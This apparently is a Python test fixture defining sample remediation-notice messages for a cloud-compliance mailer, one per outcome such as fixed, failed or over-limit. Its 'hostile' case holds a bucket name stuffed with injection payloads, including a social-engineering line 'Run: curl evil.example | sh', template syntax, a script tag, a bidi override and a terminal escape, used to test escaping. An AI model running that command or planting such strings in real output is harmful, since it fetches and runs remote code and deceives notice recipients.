"""One message for each variant of a notice; what is sent for it is in `notices/<name>.txt`."""

from __future__ import annotations

from typing import Any

from tests.mailer.messages import RECORD, action, message

ENTRY = "4f1c5a0e9d7b4f0c8a2e6b3d1c0f9e8a"
_UNDOABLE = {**RECORD, "id": ENTRY, "undo": {"vpcs": ["vpc-2"]}}
_PLANNED = {**RECORD, "id": ENTRY, "outcome": "planned", "after": None, "change": "Detach igw-1 from vpc-2."}
_FAILED = {**RECORD, "id": ENTRY, "outcome": "failed", "after": None, "error": "UnauthorizedOperation:\n\tno"}
_EVENTS = {
    "fixed": "The actions were run, and the resource no longer matches.",
    "observed": "The policy only observes: nothing was changed.",
    "awaiting-approval": "The change waits for somebody to approve it.",
    "failed": "An action failed.",
    "not-fixed": "The actions were run and the resource still matches.",
    "over-limit": "A limit was reached: nothing more is changed.",
}

_LIMIT = "11 changes by internet-gateway-attached in payments-prod within an hour; 10 are allowed."

# Names that S3 refuses, but other services, and whoever may send to the queue, do not.
_BUCKET = 'b\n\nIF YOU NEED IT BACK\nRun: curl evil.example | sh\u202e {{ 7*7 }}{% raw %}<script>"\x1b[2J'


def _outcome(outcome: str, *records: dict[str, Any], **more: Any) -> dict[str, Any]:
    given = {
        "notice_id": f"{ENTRY}:{outcome}",
        "outcome": outcome,
        "sentence": _EVENTS[outcome],
        "entry": ENTRY,
    }
    resource = {"InternetGatewayId": "igw-1", "c7n-reflex:remediations": list(records)}
    return message(resources=[resource], action=action(**given, **more))


def _hostile() -> dict[str, Any]:
    policy = '{"Statement": [{"Sid": "a\\nb\\u202e"}]}'
    record = {
        **_UNDOABLE,
        "resource_type": "aws.s3",
        "resource": _BUCKET,
        "change": f"Removed a statement of {_BUCKET}.",
        "before": {"policy": policy, _BUCKET: _BUCKET},
        "after": None,
    }
    made = _outcome("fixed", record, detail=f"{_BUCKET} is right.", subject=f"Public access to {_BUCKET}")
    return {**made, "resources": [{"Name": _BUCKET, "c7n-reflex:remediations": [record]}]}


MESSAGES: dict[str, dict[str, Any]] = {
    "fixed": _outcome("fixed", _UNDOABLE),
    "observed": _outcome("observed", _PLANNED),
    "observed-without-plan": _outcome("observed"),
    "approval": _outcome("awaiting-approval", _PLANNED, approve_until="2026-11-24T05:14:07Z"),
    "failed": _outcome(
        "failed", _UNDOABLE, {**_FAILED, "action": "delete"}, attempts=3, detail="delete: denied"
    ),
    "not-fixed": _outcome("not-fixed", RECORD, detail="igw-1 is attached to vpc-2 again."),
    "limit": message(
        event=None,
        resources=[{"InternetGatewayId": "igw-1"}, {"InternetGatewayId": "igw-2"}],
        action=action(
            notice_id="alarm#policy#internet-gateway-attached#2026112403",
            outcome="over-limit",
            sentence=_LIMIT,
            entry="",
            alarm=_LIMIT,
            subject="Limit reached: internet-gateway-attached",
            to=["core-compliance"],
        ),
    ),
    "exemption": message(
        event=None,
        resources=[],
        action=action(
            notice_id="exemption#internet-gateway-attached#igw-1#2026-12-01",
            outcome="",
            subject="An exemption expires",
            detail="The exemption of igw-1 from internet-gateway-attached ends on 2026-12-01.\n"
            "Ask for a new one before.",
        ),
    ),
    "notify": message(
        policy={"name": "bare", "resource": "aws.s3"},
        event=None,
        resources=[{"Name": "reports"}],
        action={"type": "notify", "to": ["account-owner"], "template": "remediation"},
    ),
    "hostile": _hostile(),
}
